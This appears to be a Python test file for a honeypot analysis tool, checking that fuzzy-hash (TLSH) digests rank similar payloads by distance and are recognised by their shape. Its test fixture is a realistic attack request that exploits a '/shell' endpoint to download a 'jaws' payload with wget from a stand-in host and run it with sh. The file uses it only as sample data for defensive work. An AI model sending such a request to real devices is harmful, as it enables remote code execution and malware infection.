"""Payloads by their distance."""

from honeyguide.streams.alike import alike, is_digest
from honeyguide.streams.tlsh import tlsh

REQUEST = "GET /shell?cd+/tmp;wget+http://198.51.100.{}/jaws;sh HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"


def test_the_nearest_comes_first_and_strangers_not_at_all() -> None:
    same, near = (str(tlsh(REQUEST.format(number).encode())) for number in (1, 27))
    far = str(tlsh(bytes(range(256))))
    assert list(alike(same, [far, near, same])) == [same, near]
    assert list(alike(same, [far, near, same], 0)) == [same]


def test_a_digest_is_known_by_its_shape() -> None:
    digest = str(tlsh(REQUEST.encode()))
    assert is_digest(digest)
    assert is_digest(digest.removeprefix("T1").lower())
    assert not is_digest(digest[:-1])
